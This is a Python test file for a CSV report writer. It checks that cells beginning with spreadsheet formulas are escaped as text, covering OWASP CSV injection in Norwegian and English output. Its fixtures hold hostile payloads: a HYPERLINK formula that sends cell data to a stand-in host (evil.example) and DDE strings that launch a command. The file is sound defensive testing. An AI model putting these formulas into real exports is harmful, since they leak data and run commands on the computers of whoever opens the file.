"""The CSV report never hands a spreadsheet a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from regionhus.reports.render_csv import _write
from regionhus.reports.texts import Texts


def cells(lang: str, *values: object) -> list[str]:
    text = _write([list(values)], Texts(lang)).removeprefix("\ufeff")
    return next(csv.reader(io.StringIO(text), delimiter=";" if lang == "nb" else ","))


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Klikk")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
@pytest.mark.parametrize("lang", ["nb", "en"])
def test_a_formula_in_a_name_is_written_as_text(hostile: str, lang: str) -> None:
    [cell] = cells(lang, hostile)
    assert cell == "'" + hostile


def test_numbers_and_ordinary_text_are_unchanged() -> None:
    assert cells("nb", "Øvre Eiker", -5, 1.5, "-1 234,50", "Guovdageaidnu-Kautokeino") == [
        "Øvre Eiker",
        "-5",
        "1,5",
        "-1 234,50",
        "Guovdageaidnu-Kautokeino",
    ]
